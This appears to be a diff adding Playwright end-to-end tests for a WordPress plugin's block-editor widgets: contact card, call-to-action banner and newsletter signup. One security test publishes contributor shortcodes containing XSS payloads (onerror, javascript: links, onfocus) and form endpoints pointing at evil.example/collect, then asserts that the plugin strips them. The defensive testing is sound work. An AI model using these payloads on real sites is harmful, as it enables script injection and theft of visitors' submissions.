@@ -1,0 +1,159 @@
+// An editor in the real block editor of a real WordPress, and a visitor of what they published.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { findChromium } from '@foyer/testing/node/browsers.ts';
+import { type Browser, chromium, type Page } from 'playwright-core';
+import { missingForWordPress, startWordPress, type WordPress } from './wordpress.ts';
+
+const skip = missingForWordPress() ?? false;
+const patience = { timeout: 180_000 };
+
+let site: WordPress;
+let browser: Browser;
+let editor: Page;
+
+before(async () => {
+  if (skip !== false) return;
+  const { args, env, executablePath } = await findChromium();
+  [site, browser] = await Promise.all([
+    startWordPress({ setUp: contributor }),
+    chromium.launch({ executablePath, args, env: { ...process.env, ...env } }),
+  ]);
+  editor = await logIn('editor');
+}, patience);
+
+after(async () => {
+  await browser?.close();
+  await site?.stop();
+});
+
+const contributor = "wp_create_user('contributor', 'contributor', 'c@example.org'); (new WP_User(2))->set_role('contributor');";
+
+async function logIn(name: string): Promise<Page> {
+  const context = await browser.newContext({ viewport: { width: 1300, height: 900 } });
+  const page = await context.newPage();
+  await page.goto(`${site.url}/wp-login.php`);
+  await page.fill('#user_login', name);
+  await page.fill('#user_pass', name);
+  await page.click('#wp-submit');
+  await page.waitForURL(/wp-admin/);
+  return page;
+}
+
+async function opensEditor(page: Page, type: 'page' | 'post' = 'page'): Promise<void> {
+  await page.goto(`${site.url}/wp-admin/post-new.php?post_type=${type}`);
+  await page.waitForFunction('window.wp?.data?.select("core/block-editor")?.getBlocks && wp.blocks.getBlockType("foyer/cta-banner")');
+}
+
+/** Blocks of the post as `[name, attributes that are set]`. */
+function blocksOf(page: Page): Promise<unknown> {
+  return page.evaluate(`wp.data.select('core/block-editor').getBlocks().map(({ name, attributes }) =>
+    [name, Object.fromEntries(Object.entries(attributes).filter(([, value]) => value))])`);
+}
+
+function pastes(page: Page, text: string): Promise<unknown> {
+  return page.evaluate(`(() => {
+    const clipboardData = new DataTransfer();
+    clipboardData.setData('text/plain', ${JSON.stringify(text)});
+    const canvas = document.querySelector('iframe[name="editor-canvas"]')?.contentDocument ?? document;
+    canvas.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+  })()`);
+}
+
+async function publishes(page: Page, title: string): Promise<string> {
+  return String(
+    await page.evaluate(`(async () => {
+      wp.data.dispatch('core/editor').editPost({ title: ${JSON.stringify(title)}, status: 'publish' });
+      await wp.data.dispatch('core/editor').savePost();
+      return wp.data.select('core/editor').getPermalink();
+    })()`),
+  );
+}
+
+async function publishesContent(title: string, content: string, author = 1): Promise<string> {
+  const post = `array('post_type' => 'post', 'post_title' => '${title}', 'post_content' => ${phpText(content)}, 'post_status' => 'publish', 'post_author' => ${author})`;
+  return site.php(`${author === 1 ? '' : 'kses_init_filters();'} echo get_permalink(wp_insert_post(wp_slash(${post})));`);
+}
+
+function phpText(text: string): string {
+  return `'${text.replaceAll(/[\\']/g, '\\$&')}'`;
+}
+
+async function visits(url: string): Promise<Page> {
+  const page = await (await browser.newContext({ viewport: { width: 1100, height: 1400 } })).newPage();
+  await page.goto(url);
+  return page;
+}
+
+test('a pasted tag becomes a block, and the message that a visitor sends is in the list', { skip, ...patience }, async () => {
+  await opensEditor(editor);
+  await pastes(editor, '<foyer-contact-card name="Katrin Weidner" heading="Write to us"></foyer-contact-card>');
+  assert.deepEqual(await blocksOf(editor), [
+    ['foyer/contact-card', { name: 'Katrin Weidner', heading: 'Write to us' }],
+  ]);
+  const canvas = editor.frameLocator('iframe[name="editor-canvas"]').locator('foyer-contact-card');
+  const picture = (await editor.locator('iframe[name="editor-canvas"]').count()) > 0 ? canvas : editor.locator('foyer-contact-card');
+  await picture.getByText('Katrin Weidner').first().waitFor();
+  const visitor = await visits(await publishes(editor, 'Contact'));
+  const card = visitor.locator('foyer-contact-card');
+  await card.locator('input#email').fill('lena@example.org');
+  await card.locator('textarea#message').fill('Grüße 👋 aus WordPress');
+  await card.locator('.digit, [part~=question]').first().waitFor();
+  await visitor.waitForFunction(sumShown);
+  await card.locator('input[inputmode=numeric]').fill(String(await visitor.evaluate(sumShown)));
+  await card.getByRole('button', { name: 'Send message' }).click();
+  await visitor.waitForFunction("document.querySelector('foyer-contact-card').state === 'sent'");
+  await editor.goto(`${site.url}/wp-admin/admin.php?page=foyer-forms`);
+  await editor.getByText('Grüße 👋 aus WordPress').waitFor();
+});
+
+/** The answer to the sum in the card; undefined until it is asked. */
+const sumShown = `(() => {
+  const text = document.querySelector('foyer-contact-card').shadowRoot.textContent;
+  const [, a, b] = /(\\d)\\s*\\+\\s*(\\d)/.exec(text) ?? [];
+  return a && Number(a) + Number(b);
+})()`;
+
+test('the form for editors that strip tags, and shortcodes, become blocks', { skip, ...patience }, async () => {
+  await opensEditor(editor);
+  const read = (html: string) =>
+    editor.evaluate(`wp.blocks.rawHandler({ HTML: ${JSON.stringify(html)} }).map(({ name, attributes }) =>
+      [name, Object.fromEntries(Object.entries(attributes).filter(([, value]) => value))])`);
+  const banner = [['foyer/cta-banner', { heading: 'Two days', label: 'Go', href: '/s', dismissible: true }]];
+  const sorted = (blocks: unknown) => JSON.stringify(blocks, Object.keys(banner[0]?.[1] ?? {}).toSorted());
+  const attributes = 'heading="Two days" label="Go" href="/s"';
+  for (const html of [
+    `<foyer-cta-banner ${attributes} dismissible></foyer-cta-banner>`,
+    `<div data-foyer="cta-banner" ${attributes.replaceAll(/(\w+)=/g, 'data-$1=')} data-dismissible="true"></div>`,
+    `<p>[foyer-cta-banner ${attributes} dismissible]</p>`,
+  ]) {
+    assert.equal(sorted(await read(html)), sorted(banner), html);
+  }
+});
+
+test('a page without a widget loads nothing of the plugin', { skip, ...patience }, async () => {
+  const page = await visits(await publishesContent('Plain', 'No widget here.'));
+  assert.doesNotMatch(await page.content(), /foyer/);
+});
+
+test('a shortcode with typographic quotes works, and its text stays as written', { skip, ...patience }, async () => {
+  const page = await visits(await publishesContent('Banner', '[foyer-cta-banner heading=“Two days” label="Let\'s go" href="/s"]'));
+  await page.locator('foyer-cta-banner').getByRole('heading', { name: 'Two days' }).waitFor();
+  await page.locator('foyer-cta-banner').getByText("Let's go").first().waitFor();
+});
+
+test('what a contributor writes runs no code and sends nothing to another host', { skip, ...patience }, async () => {
+  const attack = `[foyer-contact-card name="Katrin" endpoint="https://evil.example/collect" service="json" redirect="https://evil.example/"]
+[foyer-cta-banner heading="<img src=x onerror=hit()>" label="Go" href="javascript:hit()" onfocus="hit()" style="position:fixed" autofocus]
+[foyer-newsletter-signup endpoint="//evil.example/n"]`;
+  const page = await visits(await publishesContent('Attack', attack, 2));
+  await page.waitForFunction("customElements.get('foyer-contact-card')");
+  const html = await page.content();
+  assert.doesNotMatch(html, /<foyer-[^>]*(?:evil\.example|javascript:|onfocus|autofocus|style=)/);
+  assert.equal(await page.evaluate('document.querySelector("foyer-contact-card").endpoint'), `${site.url}/foyer/v1/contact`);
+});
+
+test('nothing of the plugin is in the error log', { skip, ...patience }, async () => {
+  const log = await site.php("echo @file_get_contents(WP_DEBUG_LOG);");
+  assert.deepEqual(log.split('\n').filter((line) => line.includes('foyer-forms')), []);
+});
